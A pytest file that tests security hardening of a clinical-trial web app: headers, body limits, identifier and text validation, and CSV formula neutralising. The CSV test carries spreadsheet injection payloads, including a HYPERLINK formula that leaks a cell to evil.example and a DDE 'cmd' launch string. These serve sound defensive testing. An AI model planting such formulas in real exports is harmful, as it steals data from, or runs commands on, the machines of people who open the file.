"""Issue 14, attacked: security headers, the body limit, identifiers and text that cannot be reached or
stored, NUL bytes anywhere, and spreadsheet formulas in the CSV exports. On SQLite and PostgreSQL."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
import json
import re
import time
import zipfile
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from stroketrial.web import create_app

from .test_api import PATIENTS, randomize, register

TEMPLATES = Path(__file__).parents[2] / "src" / "stroketrial" / "web" / "templates"


def page_client(platform, user: str = "admin") -> TestClient:
    """A browser-like client signed in to the pages (the users' password is password-1)."""
    client = TestClient(create_app(platform.db), raise_server_exceptions=False)
    token = re.search(r'name="csrf" value="([^"]+)"', client.get("/login").text).group(1)
    response = client.post("/login", data={"csrf": token, "name": user, "password": "password-1", "next": "/"})
    assert response.status_code == 200, response.text
    return client


# ---- 10. security headers -------------------------------------------------------------------------------
def _csp(response) -> dict[str, str]:
    policy = response.headers["content-security-policy"]
    return {d.split()[0]: d.strip() for d in policy.split(";") if d.strip()}


@pytest.mark.sqlite_only
def test_every_response_has_the_security_headers(platform):
    pages = page_client(platform)
    register(platform)
    answers = {
        "login page": platform.client.get("/login"),
        "page": pages.get("/trials/amass-2"),
        "export": pages.get("/trials/amass-2/export/csv"),
        "audit export": pages.get("/audit.csv"),
        "api": platform.call("GET", "/trials/amass-2/patients/P1"),
        "api error": platform.call("GET", "/trials/amass-2/patients/NOBODY"),
        "no token": platform.client.get("/api/v1/trials"),
        "unknown route": platform.client.get("/nowhere"),
        "openapi": platform.client.get("/openapi.json"),
    }
    for what, response in answers.items():
        assert response.status_code < 500, (what, response.text)
        headers = response.headers
        assert headers["x-frame-options"] == "DENY", what
        assert headers["x-content-type-options"] == "nosniff", what
        assert headers["referrer-policy"] in ("no-referrer", "same-origin"), what
        assert headers["cache-control"] == "no-store", what
        csp = _csp(response)
        assert csp["script-src"] == "script-src 'self'", what  # no inline script, no eval, no CDN
        assert csp["frame-ancestors"] == "frame-ancestors 'none'" and csp["base-uri"] == "base-uri 'none'", what
        assert "strict-transport-security" not in headers, what  # plain HTTP: HSTS would be ignored, say nothing
    static = platform.client.get("/static/app.js")
    assert static.status_code == 200 and static.headers["x-content-type-options"] == "nosniff"
    assert "no-store" not in static.headers.get("cache-control", "")  # may be cached: no patient data
    docs = platform.client.get("/docs")
    assert docs.status_code == 200
    assert "'unsafe-inline'" in _csp(docs)["script-src"]  # Swagger UI's own inline start script, and only there
    assert _csp(docs)["frame-ancestors"] == "frame-ancestors 'none'" and docs.headers["cache-control"] == "no-store"


@pytest.mark.sqlite_only
def test_an_unexpected_error_has_the_headers_too(platform, monkeypatch):
    """Starlette answers a 500 outside the middleware stack: the handler adds the headers itself."""
    from stroketrial.service import trials

    def broken(*_args, **_kwargs):
        raise RuntimeError("boom")

    monkeypatch.setattr(trials, "list_trials", broken)
    response = platform.call("GET", "/trials")
    assert response.status_code == 500 and "boom" not in response.text
    assert response.headers["cache-control"] == "no-store" and response.headers["x-frame-options"] == "DENY"


@pytest.mark.sqlite_only
def test_hsts_behind_https(platform, monkeypatch):
    monkeypatch.setenv("STROKETRIAL_HTTPS", "1")
    client = TestClient(create_app(platform.db), base_url="https://testserver")
    for path in ("/login", "/api/v1/health", "/static/app.css"):
        assert client.get(path).headers["strict-transport-security"].startswith("max-age=31536000"), path


def test_the_pages_hold_no_inline_script():
    """What the policy would block must not be there: inline <script>, on*= handlers, javascript: links."""
    for template in TEMPLATES.glob("*.html"):
        text = template.read_text()
        for tag in re.findall(r"<script\b[^>]*>", text, flags=re.I):
            assert "src=" in tag, f"{template.name}: inline script {tag}"
        assert not re.search(r"\son[a-z]+\s*=", text, flags=re.I), f"{template.name}: an on*= handler"
        assert "javascript:" not in text.lower(), f"{template.name}: a javascript: URL"


# ---- 11. request body limit -----------------------------------------------------------------------------
def _registration(code: str) -> dict:
    return {"patient_id": code, "site": "S1", "data": PATIENTS["amass-2"], "attestations": None}


def test_a_5_mb_body_is_refused_at_once_and_nothing_is_stored(platform):
    # Valid JSON (whitespace padding): without a limit this 5 MB request would be parsed and stored.
    body = json.dumps(_registration("BIG")).encode() + b" " * (5 * 1024 * 1024)
    headers = platform.headers("coordinator", **{"Content-Type": "application/json"})
    started = time.perf_counter()
    response = platform.client.post("/api/v1/trials/amass-2/patients", content=body, headers=headers)
    assert time.perf_counter() - started < 5
    assert response.status_code == 413, response.text
    assert "1,048,576 bytes (1 MiB)" in response.json()["detail"]
    assert response.headers["x-content-type-options"] == "nosniff"
    # The same without a Content-Length (chunked): counted as it streams.
    chunks = (body[i:i + 65536] for i in range(0, len(body), 65536))
    response = platform.client.post("/api/v1/trials/amass-2/patients", content=chunks, headers=headers)
    assert response.status_code == 413, response.text
    assert platform.call("GET", "/trials/amass-2/patients").json() == []
    # A page form is limited alike (the login form, unauthenticated).
    response = platform.client.post("/login", content=b"name=" + b"a" * (2 * 1024 * 1024),
                                    headers={"Content-Type": "application/x-www-form-urlencoded"})
    assert response.status_code == 413
    # A normal request still works, chunked or not.
    assert register(platform, code="SMALL").status_code == 201
    small = json.dumps(_registration("SMALL-2")).encode()
    response = platform.client.post("/api/v1/trials/amass-2/patients", content=iter([small[:100], small[100:]]),
                                    headers=headers)
    assert response.status_code == 201, response.text


@pytest.mark.sqlite_only
def test_the_body_limit_is_configurable(platform, monkeypatch):
    monkeypatch.setenv("STROKETRIAL_MAX_BODY_BYTES", "2048")
    client = TestClient(create_app(platform.db))
    headers = platform.headers("coordinator")
    big = {**_registration("P1"), "data": {**PATIENTS["amass-2"], "padding": "x" * 3000}}
    response = client.post("/api/v1/trials/amass-2/patients", json=big, headers=headers)
    assert response.status_code == 413 and "2,048 bytes (2 KiB)" in response.json()["detail"]
    assert client.post("/api/v1/trials/amass-2/patients", json=_registration("P1"), headers=headers).status_code == 201
    monkeypatch.setenv("STROKETRIAL_MAX_BODY_BYTES", "lots")
    with pytest.raises(ValueError, match="STROKETRIAL_MAX_BODY_BYTES"):
        create_app(platform.db)


def test_a_streamed_body_is_cut_off_as_soon_as_it_passes_the_limit():
    """An endless chunked body: the limit answers after reading just past it, and the app never runs."""
    from stroketrial.web.security import RequestLimits

    reads, sent, app_called = [], [], []

    async def app(scope, receive, send):  # pragma: no cover - must not run
        app_called.append(True)

    async def receive():
        reads.append(1)
        return {"type": "http.request", "body": b"x" * 65536, "more_body": True}

    async def send(message):
        sent.append(message)

    scope = {"type": "http", "method": "POST", "path": "/api/v1/trials/amass-2/patients", "query_string": b"",
             "headers": [(b"transfer-encoding", b"chunked")]}
    asyncio.run(RequestLimits(app, max_body=1024 * 1024)(scope, receive, send))
    assert sent[0]["status"] == 413 and not app_called
    assert len(reads) == 17  # 16 chunks of 64 KiB fill 1 MiB; the 17th passes it


# ---- 13. identifiers and text -----------------------------------------------------------------------------
BAD_IDS = ["A/B", "A\\B", "P\x001", "P\u202e1", "P\u200b1", "P\ue0001", " P1", "P1 ", "P 1", "P\t1", "P\n1", "P\x7f",
           "..", "", "x" * 61, "P;1", "P%2F1", "<b>P1</b>"]


def test_a_patient_id_that_could_not_be_reached_again_is_refused(platform):
    for code in BAD_IDS:
        response = register(platform, code=code)
        assert response.status_code == 422, (code, response.text)
        errors = response.json()["errors"]
        assert errors[0]["field"] == "patient_id", (code, errors)
        assert "letters" in errors[0]["message"] and "digits" in errors[0]["message"], (code, errors)
    assert platform.call("GET", "/trials/amass-2/patients").json() == []


def test_identifiers_in_any_script_register_and_are_reached_again(platform):
    for code in ["张三-01", "AMASS_2.031", "Ünal-7", "नमस्ते-1", "P1"]:
        assert register(platform, code=code).status_code == 201, code
        assert platform.call("GET", f"/trials/amass-2/patients/{code}").json()["patient_id"] == code


def test_a_nul_byte_anywhere_is_a_4xx_never_a_500(platform):
    client = platform.client
    token = re.search(r'name="csrf" value="([^"]+)"', client.get("/login").text).group(1)
    login = client.post("/login", data={"csrf": token, "name": "coord\x00inator", "password": "password-1"})
    assert 400 <= login.status_code < 500, login.text  # unauthenticated
    assert register(platform).status_code == 201
    attempts = {
        "trial in path": platform.call("GET", "/trials/amass%002"),
        "patient in path": platform.call("GET", "/trials/amass-2/patients/P%001"),
        "query": platform.call("GET", "/trials/amass-2/patients?x=%00"),
        "patient_id": register(platform, code="P\x002"),
        "site": register(platform, code="P3", site="S\x001"),
        "data value": register(platform, code="P4", occlusion_site="m1\x00"),
        "Idempotency-Key": randomize(platform, key="k\x00"),
        "reason": platform.call("PATCH", "/trials/amass-2/patients/P1", json={"data": {}, "reason": "typo\x00"}),
    }
    for what, response in attempts.items():
        assert 400 <= response.status_code < 500, (what, response.status_code, response.text)
        assert response.json()["detail"], what
    assert [p["patient_id"] for p in platform.call("GET", "/trials/amass-2/patients").json()] == ["P1"]


def test_text_the_database_cannot_hold_is_refused_by_the_last_line(platform):
    """An unpaired surrogate (valid JSON, but no UTF-8 can encode it, so PostgreSQL cannot store it and
    the answer cannot echo it raw) gets a 422 naming the field on both backends."""
    register(platform)
    body = b'{"data": {}, "reason": "lone \\ud800 surrogate"}'
    response = platform.client.patch("/api/v1/trials/amass-2/patients/P1", content=body,
                                     headers=platform.headers("coordinator", **{"Content-Type": "application/json"}))
    assert response.status_code == 422 and response.json()["errors"][0]["field"] == "reason", response.text
    body = b'{"patient_id": "P2", "site": "S\\ud800", "data": {}}'
    response = platform.client.post("/api/v1/trials/amass-2/patients", content=body,
                                    headers=platform.headers("coordinator", **{"Content-Type": "application/json"}))
    assert response.status_code == 422, response.text


def _today() -> str:
    return dt.date.today().isoformat()


SAE = {"term": "aspiration pneumonia", "onset_date": dt.date.today().isoformat(), "criteria": ["hospitalization"],
       "outcome": "recovering", "relatedness": "unlikely"}


def test_free_text_has_limits_named_by_field(platform):
    register(platform)
    long_reason = "r" * 2001
    response = platform.call("PATCH", "/trials/amass-2/patients/P1", json={"data": {"nihss": 13},
                                                                           "reason": long_reason})
    assert response.status_code == 422 and response.json()["errors"][0]["field"] == "reason"
    assert "2001 characters is too long; at most 2000" in response.json()["errors"][0]["message"]
    assert platform.call("PATCH", "/trials/amass-2/patients/P1",
                         json={"data": {"nihss": 13}, "reason": "r" * 2000}).status_code == 200
    assert randomize(platform).status_code == 201
    visit = {"visit_date": _today(), "values": {"death": False}}  # the mRS is the blinded assessor's
    assert platform.call("PUT", "/trials/amass-2/patients/P1/visits/d90", json=visit).status_code == 200
    response = platform.call("PUT", "/trials/amass-2/patients/P1/visits/d90", json={**visit, "reason": long_reason})
    assert response.status_code == 422 and response.json()["errors"][0]["field"] == "reason"
    response = platform.call("PUT", "/trials/amass-2/patients/P1/visits/d90",
                             json={**visit, "reason": "source says\u202e 3"})
    assert response.status_code == 422 and "U+202E" in response.json()["errors"][0]["message"]
    for changes, field in (({"term": "t" * 201}, "term"), ({"description": "d" * 4001}, "description"),
                           ({"term": "pneu\x00monia"}, "term"), ({"description": "bad\x1b[31m"}, "description")):
        response = platform.call("POST", "/trials/amass-2/patients/P1/saes", json={**SAE, **changes})
        assert response.status_code == 422, (field, response.text)
        assert [e["field"] for e in response.json()["errors"]] == [field]
    ok = platform.call("POST", "/trials/amass-2/patients/P1/saes",
                       json={**SAE, "term": "t" * 200, "description": "line one\nline two\t" + "d" * 3900})
    assert ok.status_code == 201, ok.text
    response = platform.call("POST", "/trials/amass-2/patients/P1/unblinding", "investigator",
                             json={"reason": long_reason})
    assert response.status_code == 422 and response.json()["errors"][0]["field"] == "reason"
    assert len(platform.call("GET", "/trials/amass-2/patients/P1/saes").json()) == 1  # nothing half-stored
    assert platform.call("GET", "/trials/amass-2/unblindings", "dsmb").json() == []


# ---- 14. spreadsheet formulas in the CSV exports ------------------------------------------------------------
def _read_zip(content: bytes) -> dict[str, list[dict]]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name.rsplit("/", 1)[-1].removesuffix(".csv"): list(csv.DictReader(io.StringIO(
            archive.read(name).decode("utf-8")))) for name in archive.namelist()}


def test_csv_exports_neutralise_spreadsheet_formulas(platform):
    register(platform)
    reason = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert platform.call("PATCH", "/trials/amass-2/patients/P1",
                         json={"data": {"nihss": 13}, "reason": reason}).status_code == 200
    assert randomize(platform).status_code == 201
    sae = {**SAE, "term": "@SUM(1+1)*cmd|' /C calc'!A0", "description": "+1+1"}
    assert platform.call("POST", "/trials/amass-2/patients/P1/saes", json=sae).status_code == 201
    assert platform.call("POST", "/trials/amass-2/patients/P1/unblinding", "investigator",
                         json={"reason": "-2+3 bleeding, needs the arm"}).status_code == 201
    pages = page_client(platform, "admin")
    response = pages.get("/trials/amass-2/export/csv")
    assert response.status_code == 200, response.text
    tables = _read_zip(response.content)
    row = tables["sae"][0]
    assert row["term"] == "'@SUM(1+1)*cmd|' /C calc'!A0" and row["description"] == "'+1+1"
    assert row["sae_id"] == "1"  # numbers stay numbers
    assert tables["unblinding"][0]["reason"] == "'-2+3 bleeding, needs the arm"
    assert tables["screening"][0]["nihss"] == "13" and tables["screening"][0]["patient_id"] == "P1"
    audit = list(csv.DictReader(io.StringIO(pages.get("/audit.csv").text)))
    corrected = next(r for r in audit if r["action"] == "update_screening")
    assert corrected["reason"] == "'" + reason
    assert not any(v[:1] in ("=", "+", "-", "@", "\t", "\r") for r in audit for v in r.values() if v)
    for rows in tables.values():
        assert not any(v[:1] in ("=", "+", "-", "@", "\t", "\r") for r in rows for v in r.values() if v)
